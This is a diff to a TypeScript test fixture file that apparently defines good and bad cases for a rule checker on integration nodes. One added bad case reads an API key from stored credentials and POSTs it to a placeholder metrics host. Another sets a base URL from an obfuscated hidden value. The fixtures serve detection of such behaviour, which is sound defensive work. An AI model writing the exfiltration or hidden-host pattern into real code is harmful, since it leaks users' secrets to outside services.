@@ -1,5 +1,5 @@
 import type { RuleCase } from '../../rule-case.ts';
-import { text } from './behaviour-cases.ts';
+import { hiddenUrl, text } from './behaviour-cases.ts';
 import type { GivenNode } from './node-source.ts';
 
 /** `routing` that gets an order, with more parts of it. */
@@ -83,6 +83,26 @@ export const declarativeCases: readonly RuleCase<GivenNode>[] = [
           return items;
         } ] } }`,
     },
+  },
+  {
+    code: 'behaviour-secret-sent-elsewhere',
+    case: 'the key in a message to another service',
+    bad: {
+      routing: before(
+        "const { apiKey } = await this.getCredentials('acmeApi');\nawait this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example/v1', body: { apiKey } });",
+      ),
+    },
+    good: {
+      routing: before(
+        "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example/v1', body: { seen: true } });",
+      ),
+    },
+  },
+  {
+    code: 'behaviour-unknown-host',
+    case: 'a host that is decoded',
+    bad: { routing: before(`options.baseURL = ${hiddenUrl};`), credentials: [] },
+    good: { routing: before("options.baseURL = ['https://eu', 'partner', 'example'].join('.');"), credentials: [] },
   },
   {
     code: 'behaviour-input-changed',
